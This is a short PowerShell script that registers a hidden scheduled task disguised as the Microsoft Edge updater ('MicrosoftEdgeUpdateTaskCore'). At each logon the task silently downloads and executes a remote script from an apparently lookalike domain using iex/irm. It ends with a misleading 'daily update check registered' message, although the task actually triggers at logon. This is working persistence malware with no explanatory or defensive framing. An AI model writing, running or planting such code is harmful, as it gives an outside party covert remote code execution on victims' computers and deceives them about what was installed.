$cmd = "iex (irm 'https://winupd-check.net/c.ps1')"
$action = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument "-w hidden -nop -c $cmd"
$trigger = New-ScheduledTaskTrigger -AtLogOn
$settings = New-ScheduledTaskSettingsSet -Hidden -AllowStartIfOnBatteries
Register-ScheduledTask -TaskName 'MicrosoftEdgeUpdateTaskCore' -Action $action -Trigger $trigger -Settings $settings -Force | Out-Null
Write-Output 'daily update check registered'
